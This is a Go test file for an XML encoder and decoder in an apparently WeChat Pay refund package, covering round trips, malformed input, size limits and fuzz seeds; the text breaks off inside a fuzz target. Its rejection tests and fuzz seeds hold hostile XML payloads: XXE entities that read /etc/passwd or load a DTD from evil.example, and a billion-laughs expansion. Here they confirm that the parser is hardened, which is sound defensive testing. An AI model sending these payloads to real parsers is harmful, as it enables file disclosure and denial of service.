package wxrefund

// Tests of the flat XML codec (xmlcodec.go): encodeFlat, decodeFlat,
// readLimited, validText, and newNonce. Package-level names here carry the
// prefix xt.

import (
	"bytes"
	"errors"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// ---------------------------------------------------------------- encodeFlat

func TestEncodeFlatExactBytes(t *testing.T) {
	t.Parallel()
	got, err := mtEncode(map[string]string{
		"b":     "2",
		"a":     "1",
		"empty": "",
		"Z":     "upper sorts first",
		"t":     "a]]>b",
	})
	require.NoError(t, err)
	want := "<xml>" +
		"<Z><![CDATA[upper sorts first]]></Z>" +
		"<a><![CDATA[1]]></a>" +
		"<b><![CDATA[2]]></b>" +
		"<empty></empty>" +
		"<t><![CDATA[a]]]]><![CDATA[>b]]></t>" +
		"</xml>"
	assert.Equal(t, want, string(got))
}

func TestEncodeFlatEmptyMap(t *testing.T) {
	t.Parallel()
	for _, m := range []map[string]string{nil, {}} {
		got, err := mtEncode(m)
		require.NoError(t, err)
		assert.Equal(t, "<xml></xml>", string(got))
		back, err := mtDecode(got, "xml")
		require.NoError(t, err)
		assert.Empty(t, back)
	}
}

func TestEncodeFlatDeterministic(t *testing.T) {
	t.Parallel()
	m := map[string]string{}
	for i := range 40 {
		m["field_"+string(rune('a'+i%26))+strings.Repeat("x", i/26)] = strings.Repeat("v", i)
	}
	first, err := mtEncode(m)
	require.NoError(t, err)
	for range 50 {
		// Map iteration order differs run to run; the bytes must not.
		again, err := mtEncode(m)
		require.NoError(t, err)
		require.Equal(t, first, again)
	}
	// A copy of the map built in another insertion order encodes the same.
	c := make(map[string]string, len(m))
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	for i := len(keys) - 1; i >= 0; i-- {
		c[keys[i]] = m[keys[i]]
	}
	again, err := mtEncode(c)
	require.NoError(t, err)
	assert.Equal(t, first, again)

	// Keys appear in byte-wise sorted order.
	prev := ""
	for _, k := range xtKeysInDocument(t, first) {
		assert.Less(t, prev, k)
		prev = k
	}
}

// xtKeysInDocument returns the child element names of an encodeFlat("xml")
// output in document order.
func xtKeysInDocument(t *testing.T, doc []byte) []string {
	t.Helper()
	s := strings.TrimSuffix(strings.TrimPrefix(string(doc), "<xml>"), "</xml>")
	var keys []string
	for s != "" {
		require.True(t, strings.HasPrefix(s, "<"))
		end := strings.IndexByte(s, '>')
		k := s[1:end]
		keys = append(keys, k)
		closing := "</" + k + ">"
		i := strings.Index(s, closing)
		require.GreaterOrEqual(t, i, 0)
		s = s[i+len(closing):]
	}
	return keys
}

func TestEncodeFlatDecodeFlatRoundTrip(t *testing.T) {
	t.Parallel()
	values := map[string]string{
		"lt":              "<",
		"amp":             "&",
		"gt":              ">",
		"markup":          "<a href=\"x\">&amp;</a>",
		"cdata_end":       "]]>",
		"cdata_end_x2":    "]]]]>>",
		"cdata_end_many":  "]]>]]>]]>",
		"cdata_lookalike": "<![CDATA[not a section]]>",
		"brackets":        "]]",
		"bracket_gt":      "]>",
		"chinese":         "商品缺货",
		"mixed":           "支付用户零钱 & 招商银行信用卡1234 <ok>",
		"newline":         "line1\nline2\n",
		"tab":             "a\tb",
		"spaces":          "  leading and trailing  ",
		"only_space":      " ",
		"emoji":           "退款 😀",
		"amp_eq":          "a=b&c=d",
		"quote":           `"'`,
		"entity_text":     "&lt;&#x4E2D;",
		"empty":           "",
		"long":            strings.Repeat("长", 5000),
	}
	doc, err := mtEncode(values)
	require.NoError(t, err)
	back, err := mtDecode(doc, "xml")
	require.NoError(t, err)
	assert.Equal(t, values, back)

	// Each value alone, too, so a failure names the value.
	for name, v := range values {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			doc, err := mtEncode(map[string]string{"v": v})
			require.NoError(t, err)
			back, err := mtDecode(doc, "xml")
			require.NoError(t, err)
			assert.Equal(t, map[string]string{"v": v}, back)
		})
	}
}

// XML parsers turn a literal CR (and CRLF) into LF, so encodeFlat must not
// put a raw CR into the document: a signed value with a CR would otherwise
// reach WeChat Pay as a different string than the one that was signed.
func TestEncodeFlatCarriageReturnRoundTrips(t *testing.T) {
	t.Parallel()
	doc, err := mtEncode(map[string]string{"v": "a\r\nb"})
	require.NoError(t, err)
	assert.Equal(t, "<xml><v><![CDATA[a]]>&#13;<![CDATA[\nb]]></v></xml>", string(doc))
	doc, err = mtEncode(map[string]string{"v": "\r"})
	require.NoError(t, err)
	assert.Equal(t, "<xml><v>&#13;</v></xml>", string(doc))

	for _, v := range []string{"\r", "a\r\nb", "\r\r\n\n", "x\ry", "]]>\r]]>", "\r]]>\r", "end\r"} {
		doc, err := mtEncode(map[string]string{"v": v})
		require.NoError(t, err)
		back, err := mtDecode(doc, "xml")
		require.NoError(t, err)
		assert.Equal(t, v, back["v"], "value %q via %q", v, doc)
	}
}

func TestEncodeFlatRejects(t *testing.T) {
	t.Parallel()
	const secret = "SECRETVALUE"
	tests := []struct {
		name string
		m    map[string]string
	}{
		{"NUL", map[string]string{"a": secret + "\x00"}},
		{"ESC", map[string]string{"a": secret + "\x1b"}},
		{"other C0", map[string]string{"a": secret + "\x01"}},
		{"invalid UTF-8", map[string]string{"a": secret + "\xff"}},
		{"truncated UTF-8", map[string]string{"a": secret + "\xe5\x95"}},
		{"surrogate half", map[string]string{"a": secret + "\xed\xa0\x80"}},
		{"U+FFFE", map[string]string{"a": secret + "\uFFFE"}},
		{"empty name", map[string]string{"": secret}},
		{"digit first", map[string]string{"1a": secret}},
		{"space in name", map[string]string{"a b": secret}},
		{"lt in name", map[string]string{"a<": secret}},
		{"colon in name", map[string]string{"a:b": secret}},
		{"dash first", map[string]string{"-a": secret}},
		{"slash in name", map[string]string{"a/": secret}},
		{"non-ASCII name", map[string]string{"名": secret}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			for _, root := range []string{"xml", "root"} {
				doc, err := encodeFlat(root, tc.m)
				require.Error(t, err)
				assert.Nil(t, doc)
				assert.NotContains(t, err.Error(), secret)
			}
		})
	}
}

func TestEncodeFlatAcceptsNameCharacters(t *testing.T) {
	t.Parallel()
	m := map[string]string{"_a": "1", "a-b": "2", "a.b": "3", "A9": "4", "coupon_refund_fee_0_0": "5"}
	doc, err := mtEncode(m)
	require.NoError(t, err)
	back, err := mtDecode(doc, "xml")
	require.NoError(t, err)
	assert.Equal(t, m, back)
}

func TestEncodeFlatRoot(t *testing.T) {
	t.Parallel()
	got, err := encodeFlat("root", map[string]string{"b": "2", "a": "x]]>y"})
	require.NoError(t, err)
	assert.Equal(t, "<root><a><![CDATA[x]]]]><![CDATA[>y]]></a><b><![CDATA[2]]></b></root>", string(got))
	m, err := mtDecode(got, "root")
	require.NoError(t, err)
	assert.Equal(t, map[string]string{"a": "x]]>y", "b": "2"}, m)
}

// A root that is not a field name is an error, never a corrupt document.
func TestEncodeFlatRejectsInvalidRoot(t *testing.T) {
	t.Parallel()
	for _, bad := range []string{"", "1x", "a b", "a<", "a:b", "名"} {
		doc, err := encodeFlat(bad, map[string]string{"a": "1"})
		assert.Error(t, err, "root %q", bad)
		assert.Nil(t, doc, "root %q", bad)
	}
}

func TestValidText(t *testing.T) {
	t.Parallel()
	for s, want := range map[string]bool{
		"":                        true,
		"plain":                   true,
		"\t\n\r":                  true,
		"商品":                      true,
		"\U0001F600":              true,
		"\uE000\uFFFD":            true,
		"\U0010FFFF":              true,
		"\x00":                    false,
		"\x08":                    false,
		"\x1f":                    false,
		"\xff":                    false,
		"\xc3":                    false,
		"\uFFFE":                  false,
		"\uFFFF":                  false,
		"\xed\xa0\x80":            false, // encoded surrogate
		"ok\x7f":                  true,  // DEL is an XML character
		string([]byte{'a', 0x80}): false,
	} {
		assert.Equal(t, want, validText(s), "%q", s)
	}
}

// ---------------------------------------------------------------- decodeFlat

func TestDecodeFlatAccepts(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		doc   string
		roots []string
		want  map[string]string
	}{
		{"CDATA", "<xml><a><![CDATA[1]]></a></xml>", nil, map[string]string{"a": "1"}},
		{"text", "<xml><a>1</a></xml>", nil, map[string]string{"a": "1"}},
		{"mixed CDATA and text", "<xml><a>x<![CDATA[<y>]]>z</a></xml>", nil, map[string]string{"a": "x<y>z"}},
		{"two CDATA sections", "<xml><a><![CDATA[]]]]><![CDATA[>]]></a></xml>", nil, map[string]string{"a": "]]>"}},
		{"declaration", `<?xml version="1.0" encoding="UTF-8"?><xml><a>1</a></xml>`, nil, map[string]string{"a": "1"}},
		{"declaration lowercase utf-8", `<?xml version="1.0" encoding="utf-8"?>` + "\n<xml><a>1</a></xml>", nil, map[string]string{"a": "1"}},
		{"declaration without encoding", `<?xml version="1.0"?><xml><a>1</a></xml>`, nil, map[string]string{"a": "1"}},
		{"declaration standalone", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xml><a>1</a></xml>`, nil, map[string]string{"a": "1"}},
		{"declaration single quotes and spacing", "<?xml version = '1.0'\n\tencoding='Utf-8' standalone='no' ?><xml><a>1</a></xml>", nil, map[string]string{"a": "1"}},
		{"white space before declaration", " \n<?xml version=\"1.0\"?><xml><a>1</a></xml>", nil, map[string]string{"a": "1"}},
		{"byte order mark", "\ufeff<xml><a>1</a></xml>", nil, map[string]string{"a": "1"}},
		{"byte order mark and declaration", "\ufeff<?xml version=\"1.0\" encoding=\"UTF-8\"?><xml><a>1</a></xml>", nil, map[string]string{"a": "1"}},
		{"whitespace between elements", "\n<xml>\n  <a>1</a>\r\n\t<b>2</b>\n</xml>\n\n", nil, map[string]string{"a": "1", "b": "2"}},
		{"white space as a reference outside fields", "<xml>&#32;&#x9;<a>1</a></xml>", nil, map[string]string{"a": "1"}},
		{"white space as CDATA outside fields", "<![CDATA[ ]]><xml><![CDATA[\n]]><a>1</a></xml>", nil, map[string]string{"a": "1"}},
		{"comments", "<!-- c0 --><xml><!-- c1 --><a>x<!-- c2 -->y</a><!-- c3 --></xml><!-- c4 -->", nil, map[string]string{"a": "xy"}},
		{"comment edge shapes", "<!----><xml><!---x--><a>1</a></xml><!-- - -->", nil, map[string]string{"a": "1"}},
		{"self-closing", "<xml><a/><b /></xml>", nil, map[string]string{"a": "", "b": ""}},
		{"space before end of tags", "<xml ><a\t>1</a\n><b\r\n/></xml >", nil, map[string]string{"a": "1", "b": ""}},
		{"empty pair", "<xml><a></a></xml>", nil, map[string]string{"a": ""}},
		{"empty CDATA", "<xml><a><![CDATA[]]></a></xml>", nil, map[string]string{"a": ""}},
		{"empty CDATA then text", "<xml><a><![CDATA[]]>x<![CDATA[]]>y</a></xml>", nil, map[string]string{"a": "xy"}},
		{"empty root", "<xml></xml>", nil, map[string]string{}},
		{"self-closing root", "<xml/>", nil, map[string]string{}},
		{"predefined entities", "<xml><a>&lt;&gt;&amp;&quot;&apos;</a></xml>", nil, map[string]string{"a": `<>&"'`}},
		{"hex char ref", "<xml><a>&#x4E2D;&#x6587;</a></xml>", nil, map[string]string{"a": "中文"}},
		{"decimal char ref", "<xml><a>&#20013;</a></xml>", nil, map[string]string{"a": "中"}},
		{"char ref to a surrogate becomes U+FFFD", "<xml><a>&#xD800;</a></xml>", nil, map[string]string{"a": "\uFFFD"}},
		{"entity inside CDATA is literal", "<xml><a><![CDATA[&lt;]]></a></xml>", nil, map[string]string{"a": "&lt;"}},
		{"whitespace in value kept", "<xml><a>  1 \n</a></xml>", nil, map[string]string{"a": "  1 \n"}},
		{"CR and CRLF become LF in text", "<xml><a>x\r\ny\rz</a></xml>", nil, map[string]string{"a": "x\ny\nz"}},
		{"CR and CRLF become LF in CDATA", "<xml><a><![CDATA[x\r\ny\rz]]></a></xml>", nil, map[string]string{"a": "x\ny\nz"}},
		{"CR as a reference is kept", "<xml><a>&#13;\r\n</a></xml>", nil, map[string]string{"a": "\r\n"}},
		{"UTF-8 text", "<xml><a>支付用户零钱</a></xml>", nil, map[string]string{"a": "支付用户零钱"}},
		{"name characters", "<xml><_a>1</_a><a-b.c_9>2</a-b.c_9></xml>", nil, map[string]string{"_a": "1", "a-b.c_9": "2"}},
		{"root among several", "<root><a>1</a></root>", []string{"root", "xml"}, map[string]string{"a": "1"}},
		{"BOM-less long value", "<xml><a>" + strings.Repeat("x", 40000) + "</a></xml>", nil, map[string]string{"a": strings.Repeat("x", 40000)}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			roots := tc.roots
			if roots == nil {
				roots = []string{"xml"}
			}
			got, err := mtDecode([]byte(tc.doc), roots...)
			require.NoError(t, err)
			assert.Equal(t, tc.want, got)
		})
	}
}

func TestDecodeFlatRejects(t *testing.T) {
	t.Parallel()
	const secret = "SECRETVALUE"
	tests := []struct {
		name  string
		doc   string
		roots []string
	}{
		{"empty input", "", nil},
		{"whitespace only", " \n\t", nil},
		{"comment only", "<!-- x -->", nil},
		{"declaration only", `<?xml version="1.0"?>`, nil},
		{"not XML", "{\"return_code\":\"SUCCESS\"}", nil},
		{"HTML error page", "<html><head><title>400 No required SSL certificate was sent</title></head></html>", nil},
		{"DOCTYPE", "<!DOCTYPE xml><xml><a>1</a></xml>", nil},
		{"XXE external entity", `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><a>&xxe;</a></xml>`, nil},
		{"XXE parameter entity", `<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml><a>1</a></xml>`, nil},
		{"billion laughs", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><xml><a>&lol3;</a></xml>`, nil},
		{"DOCTYPE after root", "<xml><a>1</a></xml><!DOCTYPE xml>", nil},
		{"directive inside root", "<xml><!ELEMENT a ANY><a>1</a></xml>", nil},
		{"nested element", "<xml><a><b>" + secret + "</b></a></xml>", nil},
		{"deep nesting", "<xml><a><b><c>1</c></b></a></xml>", nil},
		{"nested empty element", "<xml><a><b/></a></xml>", nil},
		{"wrong root", "<root><a>1</a></root>", nil},
		{"wrong root among several", "<data><a>1</a></data>", []string{"root", "xml"}},
		{"namespaced root", `<x:xml xmlns:x="u"><a>1</a></x:xml>`, nil},
		{"namespaced field", `<xml><x:a>1</x:a></xml>`, nil},
		{"two roots", "<xml><a>1</a></xml><xml><b>2</b></xml>", nil},
		{"two empty roots", "<xml/><xml/>", nil},
		{"trailing text", "<xml><a>1</a></xml>" + secret, nil},
		{"leading text", secret + "<xml><a>1</a></xml>", nil},
		{"unclosed root", "<xml><a>1</a>", nil},
		{"unclosed field", "<xml><a>" + secret, nil},
		{"unclosed CDATA", "<xml><a><![CDATA[" + secret + "</a></xml>", nil},
		{"unterminated comment", "<xml><a>1</a></xml><!-- " + secret, nil},
		{"double dash in comment", "<!-- a -- b --><xml><a>1</a></xml>", nil},
		{"mismatched field end tag", "<xml><a>1</b></xml>", nil},
		{"mismatched root end tag", "<xml><a>1</a></root>", []string{"xml", "root"}},
		{"stray end tag", "<xml><a>1</a></a></xml>", nil},
		{"end tag only", "</xml>", nil},
		{"end tag with junk", "<xml><a>1</a x></xml>", nil},
		{"duplicate field", "<xml><a>1</a><a>" + secret + "</a></xml>", nil},
		{"duplicate empty field", "<xml><a/><a/></xml>", nil},
		{"duplicate field far apart", "<xml><b>1</b><a>2</a><c>3</c><b>" + secret + "</b></xml>", nil},
		{"undeclared entity", "<xml><a>&secret;</a></xml>", nil},
		{"html entity", "<xml><a>&nbsp;</a></xml>", nil},
		{"entity without semicolon", "<xml><a>&lt</a></xml>", nil},
		{"bare ampersand", "<xml><a>" + secret + " & more</a></xml>", nil},
		{"bare less-than", "<xml><a>1 < 2</a></xml>", nil},
		{"CDATA end in text", "<xml><a>" + secret + "]]></a></xml>", nil},
		{"invalid char ref", "<xml><a>&#0;</a></xml>", nil},
		{"char ref to U+FFFE", "<xml><a>&#xFFFE;</a></xml>", nil},
		{"char ref beyond Unicode", "<xml><a>&#x110000;</a></xml>", nil},
		{"uppercase X in char ref", "<xml><a>&#X41;</a></xml>", nil},
		{"empty char ref", "<xml><a>&#x;</a></xml>", nil},
		{"GBK encoding", `<?xml version="1.0" encoding="GBK"?><xml><a>1</a></xml>`, nil},
		{"ISO-8859-1 encoding", `<?xml version="1.0" encoding="ISO-8859-1"?><xml><a>1</a></xml>`, nil},
		{"version 1.1", `<?xml version="1.1"?><xml><a>1</a></xml>`, nil},
		{"invalid UTF-8 in text", "<xml><a>" + secret + "\xff\xfe</a></xml>", nil},
		{"invalid UTF-8 in CDATA", "<xml><a><![CDATA[" + secret + "\xc3]]></a></xml>", nil},
		{"NUL in text", "<xml><a>" + secret + "\x00</a></xml>", nil},
		{"ESC in CDATA", "<xml><a><![CDATA[" + secret + "\x1b]]></a></xml>", nil},
		{"U+FFFF in text", "<xml><a>" + secret + "\uFFFF</a></xml>", nil},
		{"text directly inside root", "<xml>" + secret + "<a>1</a></xml>", nil},
		{"CDATA directly inside root", "<xml><![CDATA[" + secret + "]]><a>1</a></xml>", nil},
		{"two byte order marks", "\ufeff\ufeff<xml><a>1</a></xml>", nil},
		{"byte order mark inside", "<xml>\ufeff<a>1</a></xml>", nil},
		{"second declaration", `<?xml version="1.0"?><?xml version="1.0"?><xml><a>1</a></xml>`, nil},
		{"declaration after a comment", `<!-- c --><?xml version="1.0"?><xml><a>1</a></xml>`, nil},
		{"declaration after the root", `<xml><a>1</a></xml><?xml version="1.0"?>`, nil},
		{"processing instruction inside root", `<xml><?php echo 1; ?><a>1</a></xml>`, nil},
		{"processing instruction inside field", `<xml><a><?pi x?>1</a></xml>`, nil},
		{"other processing instruction before root", `<?xml-stylesheet href="x"?><xml><a>1</a></xml>`, nil},
		{"declaration inside root", `<xml><?xml version="1.0"?><a>1</a></xml>`, nil},
		{"unterminated declaration", `<?xml version="1.0"`, nil},
		{"unquoted attribute", `<xml a=b><c>1</c></xml>`, nil},
		{"truncated tag", "<xml><a", nil},
		{"lone less-than at the end", "<xml><a>1</a></xml><", nil},
		{"colon in field name", "<xml><a:b>1</a:b></xml>", nil},
		{"field name starting with a dot", "<xml><.a>1</.a></xml>", nil},

		// Attributes are refused: WeChat Pay's documents have none. The old
		// decoder ignored them.
		{"attribute on root", `<xml foo="bar"><a>1</a></xml>`, nil},
		{"attribute on field", `<xml><a x="y">1</a></xml>`, nil},
		{"attribute on self-closing field", `<xml><a x="y"/></xml>`, nil},
		// Names are ASCII [A-Za-z_][A-Za-z0-9_.-]*, as WeChat Pay's field
		// names are; the old decoder took any XML name without a prefix.
		{"non-ASCII field name", "<xml><名>" + secret + "</名></xml>", nil},
		{"accented field name", "<xml><a\u00e9b>1</a\u00e9b></xml>", nil},
		// Text outside fields must be XML white space (space, tab, CR, LF);
		// the old decoder also skipped other Unicode spaces there.
		{"no-break space inside root", "<xml>\u00a0<a>1</a></xml>", nil},
		{"ideographic space inside root", "<xml><a>1</a>\u3000</xml>", nil},
		{"next line after root", "<xml><a>1</a></xml>\u0085", nil},
		{"no-break space before root", "\u00a0<xml><a>1</a></xml>", nil},
		{"no-break space as a reference inside root", "<xml>&#xA0;<a>1</a></xml>", nil},
		// The whole document must be UTF-8; the old decoder did not look
		// inside comments.
		{"invalid UTF-8 in a comment inside root", "<xml><!-- " + secret + "\xff --><a>1</a></xml>", nil},
		{"invalid UTF-8 in a comment after root", "<xml><a>1</a></xml><!-- \xc3 -->", nil},
		// A declaration carries only version="1.0", encoding="UTF-8" and
		// standalone, each once, separated by white space; the old decoder
		// looked at version and encoding only.
		{"declaration with another pseudo-attribute", `<?xml version="1.0" foo="bar"?><xml><a>1</a></xml>`, nil},
		{"declaration with version twice", `<?xml version="1.0" version="1.0"?><xml><a>1</a></xml>`, nil},
		{"declaration with encoding twice", `<?xml version="1.0" encoding="UTF-8" encoding="UTF-8"?><xml><a>1</a></xml>`, nil},
		{"declaration without white space between", `<?xml version="1.0"encoding="UTF-8"?><xml><a>1</a></xml>`, nil},
		{"declaration standalone maybe", `<?xml version="1.0" standalone="maybe"?><xml><a>1</a></xml>`, nil},
		{"declaration unquoted value", `<?xml version=1.0?><xml><a>1</a></xml>`, nil},
		{"declaration junk", `<?xml junk?><xml><a>1</a></xml>`, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			roots := tc.roots
			if roots == nil {
				roots = []string{"xml"}
			}
			got, err := decodeFlat([]byte(tc.doc), roots...)
			require.ErrorIs(t, err, ErrMalformed)
			assert.Nil(t, got)
			assert.NotContains(t, err.Error(), secret, "errors must not quote the document")
		})
	}
}

// xtPairs returns l's names and values, to compare and print field lists.
func xtPairs(l fieldList) [][2]string {
	p := make([][2]string, len(l))
	for i, f := range l {
		p[i] = [2]string{f.name, f.value}
	}
	return p
}

// decodeFlat returns the fields sorted by name, whatever the document order.
func TestDecodeFlatSortsFields(t *testing.T) {
	t.Parallel()
	l, err := decodeFlat([]byte("<xml><sign>S</sign><b/><appid>A</appid><a_b>1</a_b><Z>z</Z><a>2</a></xml>"), "xml")
	require.NoError(t, err)
	assert.Equal(t, [][2]string{{"Z", "z"}, {"a", "2"}, {"a_b", "1"}, {"appid", "A"}, {"b", ""}, {"sign", "S"}}, xtPairs(l))
}

// Errors locate the problem by byte offset (in the document after any byte
// order mark), not by line as encoding/xml did.
func TestDecodeFlatErrorsGiveByteOffsets(t *testing.T) {
	t.Parallel()
	at := regexp.MustCompile(`at byte [0-9]+$`)
	for _, doc := range []string{
		"<xml><a>1</a>\n\n<b>&bad;</b></xml>",
		"<xml>\n<a>1</b></xml>",
		"<xml><a><b/></a></xml>",
		"<!DOCTYPE x><xml/>",
		"<xml>",
	} {
		_, err := decodeFlat([]byte(doc), "xml")
		require.ErrorIs(t, err, ErrMalformed, doc)
		assert.Regexp(t, at, err.Error(), doc)
		assert.NotContains(t, err.Error(), "line", doc)
	}
	_, err := decodeFlat([]byte("<xml><a>1</a>\n\n<b>&bad;</b></xml>"), "xml")
	assert.ErrorContains(t, err, "at byte 18") // the "&"
}

// Errors name a field only when the name is protocol vocabulary; a hostile
// name is not echoed.
func TestDecodeFlatErrorFieldNames(t *testing.T) {
	t.Parallel()
	_, err := decodeFlat([]byte("<xml><refund_fee>1</refund_fee><refund_fee>2</refund_fee></xml>"), "xml")
	require.ErrorIs(t, err, ErrMalformed)
	assert.Contains(t, err.Error(), "refund_fee")

	// Names outside the ASCII name set are refused where they stand, so no
	// error can quote them (the old decoder got as far as a duplicate and
	// wrote "(unnamed)" in the name's place).
	for _, name := range []string{"秘密字段", "a\u00e9b", "secret:x"} {
		doc := "<xml><" + name + ">1</" + name + "><" + name + ">2</" + name + "></xml>"
		_, err := decodeFlat([]byte(doc), "xml")
		require.ErrorIs(t, err, ErrMalformed, name)
		assert.NotContains(t, err.Error(), name)
	}
	// A nested element is reported without its field's name.
	long := "secret_" + strings.Repeat("x", 40)
	for _, name := range []string{long, "秘密字段", "a\u00e9b"} {
		doc := "<xml><" + name + "><b/></" + name + "></xml>"
		_, err = decodeFlat([]byte(doc), "xml")
		require.ErrorIs(t, err, ErrMalformed, name)
		assert.NotContains(t, err.Error(), name)
	}
}

// A duplicated name longer than 40 bytes is not quoted, so that a hostile
// document cannot put what it likes, at any length, into error texts (and
// so into logs).
func TestDecodeFlatErrorHidesLongFieldNames(t *testing.T) {
	t.Parallel()
	long := "secret_" + strings.Repeat("x", 40)
	doc := "<xml><" + long + ">1</" + long + "><" + long + ">2</" + long + "></xml>"
	_, err := decodeFlat([]byte(doc), "xml")
	require.ErrorIs(t, err, ErrMalformed)
	assert.NotContains(t, err.Error(), long)
}

func TestDecodeFlatVectors(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		file   string
		root   string
		fields int
		check  map[string]string
	}{
		{"refund_request_9_1.xml", "xml", 10, map[string]string{"refund_desc": "商品缺货", "sign": "F6D21A6A2156D461B557F665B8D98017"}},
		{"refund_response_9_2.xml", "xml", 25, map[string]string{"refund_channel": "", "coupon_type_0": "NO_CASH", "refund_fee": "2000"}},
		{"refundquery_response_9_3.xml", "xml", 44, map[string]string{"refund_recv_accout_1": "招商银行信用卡1234", "refund_count": "2"}},
		{"notify_9_4.xml", "xml", 5, map[string]string{"return_code": "SUCCESS", "mch_id": "1900000109"}},
		{"notify_9_4_plaintext.xml", "root", 13, map[string]string{"success_time": "2024-06-03 10:15:42"}},
		{"notify_wechatpy.xml", "xml", 5, map[string]string{"appid": "wx4f4bc4dec97d474b"}},
	} {
		t.Run(tc.file, func(t *testing.T) {
			t.Parallel()
			l, err := decodeFlat(mtReadVector(t, tc.file), tc.root)
			require.NoError(t, err)
			assert.True(t, slices.IsSortedFunc(l, func(a, b field) int { return strings.Compare(a.name, b.name) }))
			f := l.toMap()
			assert.Len(t, f, tc.fields)
			for k, v := range tc.check {
				got, ok := f[k]
				assert.True(t, ok, k)
				assert.Equal(t, v, got, k)
			}
			// Re-encoding keeps every field.
			doc, err := mtEncode(f)
			require.NoError(t, err)
			back, err := decodeFlat(doc, "xml")
			require.NoError(t, err)
			assert.Equal(t, xtPairs(l), xtPairs(back))
		})
	}
}

// ---------------------------------------------------------------- readLimited

func TestReadLimited(t *testing.T) {
	t.Parallel()
	const limit = 100
	body := bytes.Repeat([]byte("a"), limit)

	got, err := readLimited(bytes.NewReader(body), limit)
	require.NoError(t, err)
	assert.Equal(t, body, got)

	got, err = readLimited(bytes.NewReader(append(body, 'b')), limit)
	require.ErrorIs(t, err, ErrBodyTooLarge)
	assert.Nil(t, got)

	got, err = readLimited(bytes.NewReader(nil), limit)
	require.NoError(t, err)
	assert.Empty(t, got)

	// One byte at a time still works.
	got, err = readLimited(iotest.OneByteReader(bytes.NewReader(body)), limit)
	require.NoError(t, err)
	assert.Equal(t, body, got)

	// maxBody itself.
	got, err = readLimited(bytes.NewReader(make([]byte, maxBody)), maxBody)
	require.NoError(t, err)
	assert.Len(t, got, maxBody)
	_, err = readLimited(bytes.NewReader(make([]byte, maxBody+1)), maxBody)
	require.ErrorIs(t, err, ErrBodyTooLarge)
}

// xtCountingReader is an endless body that counts the bytes read from it.
type xtCountingReader struct {
	n int64
}

func (r *xtCountingReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'x'
	}
	r.n += int64(len(p))
	return len(p), nil
}

func TestReadLimitedStopsReading(t *testing.T) {
	t.Parallel()
	r := &xtCountingReader{}
	_, err := readLimited(r, 1000)
	require.ErrorIs(t, err, ErrBodyTooLarge)
	assert.Equal(t, int64(1001), r.n, "reads at most limit+1 bytes from an endless body")
}

func TestReadLimitedPassesReadErrors(t *testing.T) {
	t.Parallel()
	boom := errors.New("connection reset")
	_, err := readLimited(io.MultiReader(strings.NewReader("<xml>"), iotest.ErrReader(boom)), 100)
	require.ErrorIs(t, err, boom)
	assert.NotErrorIs(t, err, ErrBodyTooLarge)
}

// ---------------------------------------------------------------- newNonce

func TestNewNonce(t *testing.T) {
	t.Parallel()
	a, b := newNonce(), newNonce()
	assert.Len(t, a, 32)
	assert.NotEqual(t, a, b)
	for _, c := range a + b {
		assert.Contains(t, nonceAlphabet, string(c))
	}
}

// ---------------------------------------------------------------- fuzzing

// xtFuzzDocs seeds the XML fuzz targets: every vector document and a set of
// malformed shapes, including the ones decodeFlat refuses where the old
// decoder did not.
func xtFuzzDocs(f *testing.F) [][]byte {
	f.Helper()
	var docs [][]byte
	names, err := filepath.Glob(filepath.Join("testdata", "vectors", "*.xml"))
	if err != nil {
		f.Fatal(err)
	}
	for _, n := range names {
		b, err := os.ReadFile(n)
		if err != nil {
			f.Fatal(err)
		}
		docs = append(docs, b)
	}
	for _, s := range []string{
		"",
		"<xml></xml>",
		"<xml/>",
		"<root><a>1</a></root>",
		"<xml><a><![CDATA[x]]]]><![CDATA[>y]]></a><b/></xml>",
		`<?xml version="1.0" encoding="UTF-8"?><!-- c --><xml><a>&lt;&#x4E2D;</a></xml>`,
		"<!DOCTYPE xml [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><xml><a>&x;</a></xml>",
		"<xml><a><b>1</b></a></xml>",
		"<xml><a>1</a><a>2</a></xml>",
		"<xml><a>1</a></xml>trailing",
		"<xml><a>1</b></xml>",
		"<xml><a>\xff</a></xml>",
		"<xml>text<a>1</a></xml>",
		"<xml><?pi x?></xml>",
		`<?xml version="1.0" encoding="GBK"?><xml/>`,
		"<xml><a>&#13;\r\n</a></xml>",
		"<xml><x:a>1</x:a></xml>",
		"<xml><a>1</a>",
		`<xml a="1"><b x='y'/></xml>`,
		"<xml><名>1</名></xml>",
		"<xml>\u00a0<a>1</a></xml>",
		"<!-- \xff --><xml/>",
		`<?xml version='1.0' standalone="yes" ?><xml><a>]]&gt;</a></xml>`,
		"<xml><a>x<!-- c -->y<![CDATA[z\r]]></a ></xml >",
	} {
		docs = append(docs, []byte(s))
	}
	return docs
}

// FuzzDecodeFlatRoundTrip: decodeFlat never panics; whatever it accepts is
// sorted, has each name once, only field names and only text XML can carry,
// and re-encodes to a document that decodes to the same fields.
func FuzzDecodeFlatRoundTrip(f *testing.F) {
	for _, d := range xtFuzzDocs(f) {
		f.Add(d)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, roots := range [][]string{{"xml"}, {"root", "xml"}} {
			l, err := decodeFlat(data, roots...)
			if err != nil {
				if l != nil {
					t.Fatalf("decodeFlat returned fields and an error")
				}
				if !errors.Is(err, ErrMalformed) {
